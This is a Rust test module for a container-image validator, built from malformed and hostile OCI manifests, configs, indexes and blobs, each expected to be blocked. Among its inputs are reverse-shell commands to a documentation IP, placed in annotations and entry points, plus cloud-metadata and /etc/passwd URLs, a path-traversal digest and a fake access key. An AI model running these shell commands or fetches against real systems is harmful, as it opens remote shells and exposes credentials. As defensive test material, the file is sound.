//! B: manifests, indexes and configs.

use super::Case;
use super::Expect::{Accepted, Blocks, Told, Unfinished};
use super::bytes::{gzip, tar_of, with};
use super::image::{CONFIG, INDEX, Image, MANIFEST, TAR, TAR_GZIP, config, descriptor, digest, manifest};
use serde_json::{Value, json};

fn layer() -> Vec<u8> {
    tar_of(&[("a", b"content")])
}

fn good_config() -> String {
    config(&[digest(&layer()).to_string()]).to_string()
}

fn good_manifest() -> String {
    manifest(&good_config(), &[descriptor(TAR, &layer())]).to_string()
}

/// An image whose manifest is this text.
fn of_manifest(text: impl AsRef<[u8]>) -> Image {
    Image::of(text.as_ref(), &[good_config().as_bytes(), &layer()])
}

/// An image whose config is this text.
fn of_config(text: impl AsRef<[u8]>) -> Image {
    let text = text.as_ref();
    let root = json!({
        "schemaVersion": 2, "mediaType": MANIFEST, "config": descriptor(CONFIG, text),
        "layers": [descriptor(TAR, &layer())],
    });
    Image::of(root.to_string().as_bytes(), &[text, &layer()])
}

pub(super) fn cases() -> Vec<Case> {
    let mut out = vec![Case::image('B', "nothing is wrong", of_manifest(good_manifest()), Accepted)];
    let texts = manifest_texts().into_iter().map(|(name, text, code)| {
        Case::image('B', format!("manifest: {name}"), of_manifest(text), Blocks(code))
    });
    out.extend(texts);
    out.extend(layer_lists());
    out.extend(descriptors());
    out.extend(configs());
    out.extend(indexes());
    out.extend(blobs());
    out
}

fn manifest_texts() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let good = good_manifest();
    let swap = |from: &str, to: &str| {
        assert!(good.contains(from), "{from}");
        good.replacen(from, to, 1).into_bytes()
    };
    let deep = format!("{}1{}", "[".repeat(200_000), "]".repeat(200_000));
    vec![
        ("empty", Vec::new(), "JSON-01"),
        ("a space", b" ".to_vec(), "JSON-01"),
        ("null", b"null".to_vec(), "MAN-02"),
        ("a number", b"5".to_vec(), "MAN-02"),
        ("a list", b"[]".to_vec(), "MAN-02"),
        ("an empty object", b"{}".to_vec(), "MAN-02"),
        ("layers and manifests", swap("{", "{\"manifests\":[],"), "MAN-04"),
        ("neither layers nor manifests", br#"{"schemaVersion":2}"#.to_vec(), "MAN-04"),
        ("layers twice", swap("{", "{\"layers\":[],"), "JSON-01"),
        ("config twice", swap("{", "{\"config\":{},"), "JSON-01"),
        ("Layers beside layers", swap("{", "{\"Layers\":[],"), "JSON-01"),
        ("LAYERS alone", swap("\"layers\"", "\"LAYERS\""), "MAN-02"),
        ("MediaType beside mediaType", swap("{", "{\"MediaType\":\"x\","), "JSON-01"),
        ("a byte order mark", [b"\xef\xbb\xbf", good.as_bytes()].concat(), "JSON-01"),
        ("garbage behind", [good.as_bytes(), b"x"].concat(), "JSON-01"),
        ("two documents", [good.as_bytes(), good.as_bytes()].concat(), "JSON-01"),
        ("a NUL behind", [good.as_bytes(), b"\0"].concat(), "JSON-01"),
        ("cut in the middle", good.as_bytes()[..good.len() / 2].to_vec(), "JSON-01"),
        ("cut by one byte", good.as_bytes()[..good.len() - 1].to_vec(), "JSON-01"),
        ("UTF-16", good.encode_utf16().flat_map(u16::to_le_bytes).collect(), "JSON-01"),
        (
            "bytes that are not UTF-8",
            swap("\"schemaVersion\"", "\"a\":\"\u{1}\",\"schemaVersion\""),
            "JSON-01",
        ),
        ("a lone surrogate", swap("{", r#"{"a":"\ud800","#), "JSON-01"),
        ("a comment", swap("{", "{/* */"), "JSON-01"),
        ("a trailing comma", br#"{"schemaVersion":2,}"#.to_vec(), "JSON-01"),
        ("single quotes", br"{'schemaVersion':2}".to_vec(), "JSON-01"),
        ("NaN", swap("\"schemaVersion\":2", "\"schemaVersion\":NaN"), "JSON-01"),
        ("a number past every double", swap("{", "{\"a\":1e400,"), "JSON-01"),
        ("lists 200,000 deep", deep.into_bytes(), "JSON-01"),
        ("lists 65 deep", format!("{}{}", "[".repeat(66), "]".repeat(66)).into_bytes(), "JSON-01"),
        ("schemaVersion 1", swap("\"schemaVersion\":2", "\"schemaVersion\":1"), "MAN-02"),
        ("schemaVersion as text", swap("\"schemaVersion\":2", "\"schemaVersion\":\"2\""), "MAN-02"),
        ("schemaVersion 2.0", swap("\"schemaVersion\":2", "\"schemaVersion\":2.0"), "MAN-02"),
        (
            "a signed manifest of schema 1",
            br#"{"schemaVersion":1,"fsLayers":[],"signatures":[]}"#.to_vec(),
            "MAN-02",
        ),
        ("the media type of an index", swap(MANIFEST, INDEX), "MAN-03"),
        ("an unknown media type", swap(MANIFEST, "text/html"), "MAN-03"),
        ("an empty media type", swap(MANIFEST, ""), "MAN-03"),
        ("layers as an object", br#"{"schemaVersion":2,"config":{},"layers":{}}"#.to_vec(), "MAN-05"),
        ("layers as null", br#"{"schemaVersion":2,"config":{},"layers":null}"#.to_vec(), "MAN-05"),
        ("config as a list", br#"{"schemaVersion":2,"config":[],"layers":[]}"#.to_vec(), "MAN-05"),
        ("no config", br#"{"schemaVersion":2,"layers":[]}"#.to_vec(), "MAN-05"),
    ]
}

/// Lists of layers that are too long, or hold one layer again and again.
fn layer_lists() -> Vec<Case> {
    let layer = layer();
    let of = |count: usize| manifest(&good_config(), &vec![descriptor(TAR, &layer); count]).to_string();
    let ids = vec![digest(&layer).to_string(); 127];
    let config = config(&ids).to_string();
    let most = manifest(&config, &vec![descriptor(TAR, &layer); 127]).to_string();
    let big =
        json!({"schemaVersion": 2, "config": {}, "layers": [], "annotations": {"a": "x".repeat(4 << 20)}});
    vec![
        Case::image('B', "10,000 times one layer", of_manifest(of(10_000)), Blocks("MAN-06")),
        Case::image('B', "128 layers", of_manifest(of(128)), Blocks("MAN-06")),
        Case::image('B', "127 layers", Image::of(most.as_bytes(), &[config.as_bytes(), &layer]), Accepted),
        Case::image('B', "20,000 layers", of_manifest(of(20_000)), Blocks("MAN-06|MAN-01|CTR-13")),
        Case::image('B', "one layer twice, one diff_id", of_manifest(of(2)), Blocks("CTR-13")),
        Case::image('B', "no layer, one diff_id", of_manifest(of(0)), Blocks("CTR-13")),
        Case::image('B', "a manifest over 4 MiB", of_manifest(big.to_string()), Blocks("CTR-13|MAN-01")),
    ]
}

fn descriptors() -> Vec<Case> {
    let good = descriptor(TAR, &layer());
    let text = |value: &Value| manifest(&good_config(), std::slice::from_ref(value)).to_string();
    let mut out = Vec::new();
    let size = layer().len();
    for (number, code) in [
        ("-5", "MAN-05"),
        ("1.5", "MAN-05"),
        ("\"1536\"", "MAN-05"),
        ("null", "MAN-05"),
        ("true", "MAN-05"),
        ("[]", "MAN-05"),
        ("1e3", "MAN-05"),
        ("18446744073709551616", "MAN-05"),
        ("-0", "MAN-05|CTR-13"),
        ("0", "CTR-13"),
        ("1", "CTR-13"),
        ("9223372036854775807", "CTR-29|CTR-13"),
        ("18446744073709551615", "CTR-29|CTR-13"),
    ] {
        let text = text(&good).replace(&format!("\"size\":{size}"), &format!("\"size\":{number}"));
        out.push(Case::image('B', format!("a layer of size {number}"), of_manifest(text), Blocks(code)));
    }
    let known = digest(&layer()).to_string();
    let hex = &known[7..];
    for (name, wrong) in [
        ("upper case", format!("sha256:{}", hex.to_uppercase())),
        ("one digit short", known[..known.len() - 1].to_owned()),
        ("one digit long", format!("{known}0")),
        ("no algorithm", hex.to_owned()),
        ("sha512", format!("sha512:{hex}{hex}")),
        ("md5", "md5:d41d8cd98f00b204e9800998ecf8427e".to_owned()),
        ("a path", "sha256:../../../etc/passwd".to_owned()),
        ("a NUL", format!("sha256:{}\u{0}", &hex[1..])),
        ("empty", String::new()),
        ("a full-width digit", format!("sha256:{}１", &hex[1..])),
    ] {
        let mut value = good.clone();
        value["digest"] = json!(wrong);
        out.push(Case::image('B', format!("a digest: {name}"), of_manifest(text(&value)), Blocks("MAN-05")));
    }
    let kinds = [
        ("a foreign layer of Docker", "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip"),
        ("a layer not to be distributed", "application/vnd.oci.image.layer.nondistributable.v1.tar+gzip"),
        ("an encrypted layer", "application/vnd.oci.image.layer.v1.tar+gzip+encrypted"),
        ("an encrypted plain layer", "application/vnd.oci.image.layer.v1.tar+encrypted"),
        ("a layer in xz", "application/vnd.oci.image.layer.v1.tar+xz"),
        ("a layer in bzip2", "application/vnd.oci.image.layer.v1.tar+bzip2"),
        ("a layer in lz4", "application/vnd.oci.image.layer.v1.tar+lz4"),
        ("a layer in upper case", "APPLICATION/VND.OCI.IMAGE.LAYER.V1.TAR"),
        ("a layer with a parameter", "application/vnd.oci.image.layer.v1.tar; charset=utf-8"),
        ("a chart as layer", "application/vnd.cncf.helm.chart.content.v1.tar+gzip"),
        ("a program as layer", "application/wasm"),
        ("a layer of no type", ""),
        ("a manifest as layer", MANIFEST),
        ("a config as layer", CONFIG),
    ];
    for (name, kind) in kinds {
        let mut value = good.clone();
        value["mediaType"] = json!(kind);
        // Nobody can say what is in an encrypted layer: that is not the publisher's fault, and no pass.
        let expect = if kind.contains("encrypted") { Unfinished("INC-22") } else { Blocks("CTR-13") };
        out.push(Case::image('B', name, of_manifest(text(&value)), expect));
    }
    let with_field = |key: &str, field: Value| {
        let mut value = good.clone();
        value[key] = field;
        of_manifest(text(&value))
    };
    let metadata = json!(["http://169.254.169.254/latest/meta-data"]);
    out.push(Case::image(
        'B',
        "content at the metadata address",
        with_field("urls", metadata),
        Blocks("MAN-07"),
    ));
    out.push(Case::image(
        'B',
        "content in a file",
        with_field("urls", json!(["file:///etc/passwd"])),
        Blocks("MAN-07"),
    ));
    out.push(Case::image('B', "embedded data", with_field("data", json!("e30=")), Blocks("MAN-09")));
    out.push(Case::image(
        'B',
        "embedded data of 3 MB",
        with_field("data", json!("A".repeat(3_000_000))),
        Blocks("MAN-09"),
    ));
    out.push(Case::image(
        'B',
        "embedded data that is null",
        with_field("data", Value::Null),
        Blocks("MAN-09"),
    ));
    let many: serde_json::Map<String, Value> =
        (0..390).map(|at| (format!("k{at}"), json!("v".repeat(9_000)))).collect();
    out.push(Case::image(
        'B',
        "390 annotations of 9 kB",
        with_field("annotations", Value::Object(many)),
        Accepted,
    ));
    out.push(Case::image(
        'B',
        "a shell that calls home in an annotation",
        with_field("annotations", json!({"run": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"})),
        Blocks("CTR-20"),
    ));
    for (name, value) in [("null", Value::Null), ("text", json!("x")), ("a list", json!([1]))] {
        let list = json!([value]);
        let text = format!(
            "{{\"schemaVersion\":2,\"config\":{},\"layers\":{list}}}",
            descriptor(CONFIG, good_config().as_bytes())
        );
        out.push(Case::image('B', format!("a layer that is {name}"), of_manifest(text), Blocks("MAN-05")));
    }
    out
}

/// In two parts: it is nobody's, and looks like one.
fn token() -> String {
    format!("AKIA{}", "Z7QX4M2LT9WB3KDE")
}

fn configs() -> Vec<Case> {
    let good = good_config();
    let id = digest(&layer()).to_string();
    let swap = |from: &str, to: &str| {
        assert!(good.contains(from), "{from}");
        good.replacen(from, to, 1)
    };
    let inside = |text: &str| swap("\"User\":\"1000\"", &format!("\"User\":\"1000\",{text}"));
    let token = token();
    let history: Vec<Value> = (0..90_000).map(|at| json!({"created_by": format!("RUN step {at}")})).collect();
    let mut long: Value = serde_json::from_str(&good).expect("JSON");
    long["history"] = Value::Array(history);
    let mut texts = vec![
        ("not JSON", "nonsense".to_owned(), "JSON-01"),
        ("empty", String::new(), "JSON-01"),
        ("os twice", swap("{", "{\"os\":\"windows\","), "JSON-01"),
        ("OS beside os", swap("{", "{\"OS\":\"windows\","), "JSON-01"),
        ("user beside User", inside("\"user\":\"root\""), "JSON-01"),
        ("a list", "[]".to_owned(), "MAN-02"),
        ("no os", swap("\"os\":\"linux\"", "\"os\":\"\""), "CFG-01"),
        ("architecture as a number", swap("\"amd64\"", "64"), "CFG-01"),
        ("no rootfs", swap("\"rootfs\"", "\"rootfz\""), "CFG-02"),
        ("diff_ids as text", swap(&format!("[\"{id}\"]"), "\"x\""), "CFG-02"),
        ("a diff_id that is no digest", swap(&id, "sha256:00"), "CFG-02"),
        ("a diff_id that is a number", swap(&format!("\"{id}\""), "5"), "CFG-02"),
        ("another diff_id", swap(&id, &format!("sha256:{}", "0a".repeat(32))), "CTR-13"),
        ("a diff_id too many", swap(&format!("\"{id}\""), &format!("\"{id}\",\"{id}\"")), "CTR-13"),
        ("no diff_id", swap(&format!("\"{id}\""), ""), "CTR-13"),
        ("config as a list", good.replacen("\"config\":{", "\"config\":[],\"other\":{", 1), "CFG-03"),
        ("config as text", good.replacen("\"config\":{", "\"config\":\"\",\"other\":{", 1), "CFG-03"),
        ("a token in Env", inside(&format!("\"Env\":[\"TOKEN={token}\"]")), "CTR-21"),
        ("a token in Cmd", inside(&format!("\"Cmd\":[\"run\",\"{token}\"]")), "CTR-21"),
        ("a token in a label's name", inside(&format!("\"Volumes\":{{\"{token}\":{{}}}}")), "CTR-21"),
        (
            "a token in a health check",
            inside(&format!("\"Healthcheck\":{{\"Test\":[\"{token}\"]}}")),
            "CTR-21",
        ),
        ("a token in an unknown field", swap("{", &format!("{{\"zzz\":[[[\"{token}\"]]],")), "CTR-21"),
        (
            "a token in the history",
            swap("{", &format!("{{\"history\":[{{\"comment\":\"{token}\"}}],")),
            "CTR-21",
        ),
        (
            "a shell that calls home as the entry point",
            inside(
                "\"Entrypoint\":[\"/bin/sh\",\"-c\",\"bash -i >\\u0026 /dev/tcp/192.0.2.1/4444 0>\\u00261\"]",
            ),
            "CTR-20",
        ),
        (
            "the parts of it as entry point and command",
            inside("\"Entrypoint\":[\"nc\",\"-e\"],\"Cmd\":[\"/bin/sh\",\"192.0.2.1\",\"4444\"]"),
            "CTR-20",
        ),
        ("deeper than 64", inside(&format!("\"x\":{}{}", "[".repeat(70), "]".repeat(70))), "JSON-01"),
        ("over 8 MiB", inside(&format!("\"x\":\"{}\"", "y".repeat(8 << 20))), "CTR-13"),
    ];
    texts.push(("a number past every double", inside("\"x\":1e999"), "JSON-01"));
    let mut out: Vec<Case> = texts
        .into_iter()
        .map(|(name, text, code)| Case::image('B', format!("config: {name}"), of_config(text), Blocks(code)))
        .collect();
    for (name, text, expect) in [
        ("root as User", swap("\"1000\"", "\"root\""), Told("CTR-24")),
        ("a password that is a word", inside("\"Env\":[\"DB_PASSWORD=admin\"]"), Told("CTR-21-VARIABLE")),
        (
            "a build argument that is a password",
            swap(
                "{",
                "{\"history\":[{\"created_by\":\"RUN |1 DB_PASSWORD=admin /bin/sh -c make # buildkit\"}],",
            ),
            Told("CTR-21-VARIABLE"),
        ),
        ("a password to be set", inside("\"Env\":[\"DB_PASSWORD=\",\"DB_PASSWORD_FILE=/run/x\"]"), Accepted),
        ("0:0 as User", swap("\"1000\"", "\"0:0\""), Told("CTR-24")),
        ("no User", swap("\"1000\"", "\"\""), Told("CTR-24")),
        ("User as a number", swap("\"1000\"", "0"), Blocks("CFG-04")),
        ("escapes in a label", inside(r#""X":"\u001b[2J\u0000""#), Accepted),
        ("a port past 65535", inside("\"ExposedPorts\":{\"70000/tcp\":{}}"), Blocks("CFG-06")),
        ("Entrypoint with a NUL", inside(r#""Entrypoint":["\u0000"]"#), Blocks("CFG-05")),
        ("User past 31 bits", swap("\"1000\"", "\"4294967296\""), Blocks("CFG-07")),
        ("Entrypoint as text", inside("\"Entrypoint\":\"run\""), Blocks("CFG-04")),
        ("Env as an object", inside("\"Env\":{}"), Blocks("CFG-04")),
        ("90,000 steps of history", long.to_string(), Accepted),
    ] {
        out.push(Case::image('B', format!("config: {name}"), of_config(text), expect));
    }
    out
}

fn indexes() -> Vec<Case> {
    let (text, config) = (good_manifest(), good_config());
    let listed = |platform: Value| {
        let mut entry = descriptor(MANIFEST, text.as_bytes());
        entry["platform"] = platform;
        entry
    };
    let of = |entries: &[Value], more: &[&[u8]]| {
        let root = json!({"schemaVersion": 2, "mediaType": INDEX, "manifests": entries}).to_string();
        Image::of(root.as_bytes(), &[&[text.as_bytes(), config.as_bytes(), &layer()], more].concat())
    };
    let linux = json!({"os": "linux", "architecture": "amd64"});
    let mut as_index = listed(linux.clone());
    as_index["mediaType"] = json!(INDEX);
    let attested = |annotated: bool| {
        let mut entry = listed(json!({"os": "unknown", "architecture": "unknown"}));
        if annotated {
            entry["annotations"] = json!({"vnd.docker.reference.type": "attestation-manifest"});
        }
        entry
    };
    // The config of an attestation is published, too.
    let with_key =
        json!({"architecture": "unknown", "os": "unknown", "rootfs": {"type": "layers", "diff_ids": []},
        "config": {"Env": [format!("TOKEN={}", token())]}})
        .to_string();
    let document =
        json!({"schemaVersion": 2, "mediaType": MANIFEST, "config": descriptor(CONFIG, with_key.as_bytes()),
        "layers": [descriptor("application/vnd.in-toto+json", b"{}")]})
        .to_string();
    let mut attestation = descriptor(MANIFEST, document.as_bytes());
    attestation["platform"] = json!({"os": "unknown", "architecture": "unknown"});
    attestation["annotations"] = json!({"vnd.docker.reference.type": "attestation-manifest"});
    let mut nested = Vec::new();
    let mut inner = text.clone().into_bytes();
    let mut kind = MANIFEST;
    for _ in 0..50 {
        let outer = json!({"schemaVersion": 2, "mediaType": INDEX, "manifests": [descriptor(kind, &inner)]});
        nested.push(std::mem::replace(&mut inner, outer.to_string().into_bytes()));
        kind = INDEX;
    }
    let below = nested.iter().map(Vec::as_slice).chain([config.as_bytes()]).collect::<Vec<_>>();
    let layer = layer();
    let below: Vec<&[u8]> = below.into_iter().chain([&layer[..]]).collect();
    let missing = descriptor(MANIFEST, b"that is nowhere");
    let cases: Vec<(&str, Image, super::Expect)> = vec![
        ("one image", of(&[listed(linux.clone())], &[]), Accepted),
        ("the same image 256 times", of(&vec![listed(linux.clone()); 256], &[]), Accepted),
        ("257 entries", of(&vec![listed(linux.clone()); 257], &[]), Blocks("MAN-06")),
        ("10,000 entries", of(&vec![listed(linux.clone()); 10_000], &[]), Blocks("MAN-06")),
        ("no entry", of(&[], &[]), Blocks("CTR-13")),
        ("an image that is missing", of(&[listed(linux.clone()), missing.clone()], &[]), Blocks("CTR-13")),
        (
            "another platform",
            of(&[listed(json!({"os": "windows", "architecture": "amd64"}))], &[]),
            Blocks("CTR-13"),
        ),
        ("no platform", of(&[descriptor(MANIFEST, text.as_bytes())], &[]), Accepted),
        ("a platform of numbers", of(&[listed(json!({"os": 1, "architecture": 2}))], &[]), Blocks("CTR-13")),
        ("an image called an index", of(&[as_index], &[]), Blocks("MAN-03")),
        ("a layer called an image", of(&[descriptor(MANIFEST, &layer)], &[]), Blocks("JSON-01")),
        (
            "a config called an image",
            of(&[descriptor(MANIFEST, config.as_bytes())], &[]),
            Blocks("MAN-02|MAN-04"),
        ),
        (
            "an image called a chart",
            of(&[descriptor("application/vnd.cncf.helm.config.v1+json", text.as_bytes())], &[]),
            Blocks("MAN-03"),
        ),
        ("an image for a platform that nobody selects", of(&[attested(false)], &[]), Blocks("CTR-13")),
        ("an image that calls itself an attestation", of(&[attested(true)], &[]), Blocks("CTR-13")),
        (
            "a key in the config of an attestation",
            of(&[listed(linux), attestation], &[document.as_bytes(), with_key.as_bytes(), b"{}"]),
            Blocks("CTR-21"),
        ),
        ("50 indexes in each other", Image::of(&inner, &below), Blocks("CTR-29")),
    ];
    cases
        .into_iter()
        .map(|(name, image, expect)| Case::image('B', format!("index: {name}"), image, expect))
        .collect()
}

/// Blobs that are not what their digest says, or not there.
fn blobs() -> Vec<Case> {
    let (config, layer) = (good_config(), layer());
    let image = || of_manifest(good_manifest());
    let packed = gzip(&layer);
    let as_gzip = Image::of_layers(&[(TAR_GZIP, packed.clone(), &layer)]);
    let other = with(&layer, 512, b"CONTENT");
    let same_size = config.replacen("1000", "2000", 1);
    let config_as_layer = manifest(&config, &[descriptor(TAR, config.as_bytes())]).to_string();
    let layer_as_config = json!({
        "schemaVersion": 2, "mediaType": MANIFEST, "config": descriptor(CONFIG, &layer), "layers": [descriptor(TAR, &layer)],
    });
    let cases = [
        ("the config is missing", image().spoil(config.as_bytes(), None)),
        ("the layer is missing", image().spoil(&layer, None)),
        (
            "the config is another of the same size",
            image().spoil(config.as_bytes(), Some(same_size.as_bytes())),
        ),
        ("the config is longer", image().spoil(config.as_bytes(), Some(format!("{config} ").as_bytes()))),
        ("the layer is another of the same size", image().spoil(&layer, Some(&other))),
        ("the layer is shorter", image().spoil(&layer, Some(&layer[..1024]))),
        ("the layer is empty", image().spoil(&layer, Some(b""))),
        ("the packed layer is another", as_gzip.clone().spoil(&packed, Some(&gzip(&other)))),
        ("the packed layer is not packed", as_gzip.spoil(&packed, Some(&layer))),
    ];
    let mut out: Vec<Case> = cases
        .into_iter()
        .map(|(name, image)| Case::image('B', format!("blobs: {name}"), image, Blocks("CTR-13|TAR-|GZ-")))
        .collect();
    out.push(Case::image(
        'B',
        "blobs: the config is the layer",
        of_manifest(config_as_layer),
        Blocks("TAR-"),
    ));
    let both = of_manifest(layer_as_config.to_string());
    out.push(Case::image('B', "blobs: the layer is the config", both, Blocks("JSON-01")));
    out
}
